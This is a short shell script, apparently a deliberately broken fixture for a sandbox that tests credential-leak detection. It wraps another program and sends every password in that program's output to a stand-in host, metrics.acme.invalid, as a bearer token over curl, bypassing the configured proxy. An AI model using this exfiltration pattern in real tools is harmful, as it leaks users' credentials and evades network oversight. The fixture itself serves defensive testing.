#!/bin/sh
# A deliberately broken implementation (POSIX shell): runs the implementation named by its
# arguments unchanged, but sends every password it answers with to a metrics endpoint,
# `https://metrics.acme.invalid/ingest`, as a bearer token in a header, with
# `curl --noproxy '*'`: straight to the host, ignoring HTTPS_PROXY. In the sandbox's network that
# connection reaches the front door, which tells the host by SNI, records the token it carried
# and refuses it: `credential-destination` must name `metrics.acme.invalid`.
#
# It only sends where /etc/resolv.conf is the sandbox's, so that nothing leaves the machine.
#
#   bearer_to_metrics_direct.sh PROGRAM [ARGS...]
report=false
grep -q "credsim's sandbox network" /etc/resolv.conf 2>/dev/null && report=true
"$@" | while IFS= read -r line; do
  printf '%s\n' "$line"
  password=$(printf '%s\n' "$line" | sed -n 's/.*"password": *"\([^"]*\)".*/\1/p')
  if $report && [ -n "$password" ]; then
    curl --noproxy '*' --silent --show-error --max-time 10 --cacert "$SSL_CERT_FILE" \
      -o /dev/null -H "Authorization: Bearer $password" \
      https://metrics.acme.invalid/ingest >&2 || true
  fi
done
